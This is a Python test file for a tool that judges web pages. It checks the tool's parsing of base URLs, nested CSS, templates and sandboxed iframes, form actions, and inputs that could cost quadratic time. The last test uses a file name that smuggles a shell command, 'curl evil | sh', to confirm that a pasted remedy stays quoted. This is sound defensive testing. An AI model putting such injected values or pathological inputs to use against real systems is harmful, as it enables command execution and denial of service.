"""Pages and scripts that somebody wrote against the one who judges them: they end in findings, and soon."""

from __future__ import annotations

import shlex
from html import escape

import pytest

from pages import scripts
from pages.document import parse
from pages.findings import Finding
from tests.unit.pages.judging import judged
from website.judging import refusal

pytestmark = pytest.mark.attack

LINKED = '<link rel="stylesheet" href="/a.css"><script src="/a.js"></script>'


@pytest.mark.parametrize("href", ["http://[", "http://\u2100/", "https://a:port/"])
def test_a_base_that_is_no_url_is_passed_by(href: str) -> None:
    page = f'<base href="{href}"><style>a{{background:url(x)}}</style>{LINKED}'
    found = judged({"index.html": page, "a.css": "", "a.js": ""}, configured={"API": href})
    assert {each.code for each in found} <= {"missing-file", "csp-inline", "csp-base", "csp-connect"}


@pytest.mark.parametrize("sheet", ["@media x{" * 2000, "a{b:" + "(" * 5000])
def test_a_style_sheet_that_is_nested_too_deeply_is_refused(sheet: str) -> None:
    (finding,) = judged({"index.html": LINKED, "a.css": sheet, "a.js": ""})
    assert finding.code == "nesting" and not finding.note


def test_code_below_any_number_of_templates_is_found() -> None:
    assert [each.what for each in parse("<template>" * 2000 + '<p onclick="x">').inline] == ["<p onclick=>"]


def test_frames_in_frames_are_read_as_deep_as_anybody_writes_them_and_no_deeper() -> None:
    inner = '<script src="/a.js"></script>'
    for _ in range(3):
        inner = f'<iframe srcdoc="{escape(inner)}"></iframe>'
    assert [each.url for each in parse(inner).references] == ["/a.js"]
    assert parse(f'<iframe srcdoc="{escape(inner)}"></iframe>').references == ()
    assert parse("<iframe/srcdoc=" * 20_000).references == ()


def test_a_frame_that_may_run_nothing_has_no_code() -> None:
    code = "<script src=/a.js></script><script>x()</script><p onclick=x() style=top:0><img src=/i.png>"
    found = parse(f'<iframe sandbox="allow-forms" srcdoc="{code}"></iframe>')
    assert [each.url for each in found.references] == ["/i.png"] and [each.kind for each in found.inline] == ["style-attribute"]
    assert len(parse(f'<iframe sandbox="allow-scripts" srcdoc="{code}"></iframe>').inline) == 3


def test_a_form_is_one_wherever_its_target_stands_and_none_in_a_frame_that_may_send_none() -> None:
    button = "<form><button formaction=https://a.example/>x</button><input type=submit formaction=https://b.example/></form>"
    assert [action for action, _ in parse(f"{button}<p formaction=https://c.example/>").forms] == [
        "https://a.example/",
        "https://b.example/",
    ]
    for sandbox, count in (("", 0), ("allow-scripts", 0), ("allow-forms", 2)):
        assert len(parse(f'<iframe sandbox="{sandbox}" srcdoc="{button}"></iframe>').forms) == count
    assert len(parse(f'<iframe srcdoc="{button}"></iframe>').forms) == 2


def test_many_candidates_and_lines_take_no_square_of_their_number() -> None:
    """Squared, each of these takes minutes."""
    assert len(parse('<img srcset="' + "a 1x," * 100_000 + '">').references) == 1
    text = 'import("./a.js");\n' * 50_000 + 'navigator.serviceWorker.register("/a", {' * 5_000
    assert scripts.imports(text)[-1].line == 50_000
    assert len(scripts.workers(text)) == 5_000


def test_a_files_name_runs_nothing_in_the_shell_of_whoever_pastes_the_remedy() -> None:
    finding = Finding(code="csp-inline", file="x'; curl evil | sh; '.html", text="t")
    assert shlex.split(refusal(finding, "dist").partition("all the same: ")[2]) == ["--allow", finding.allowance]
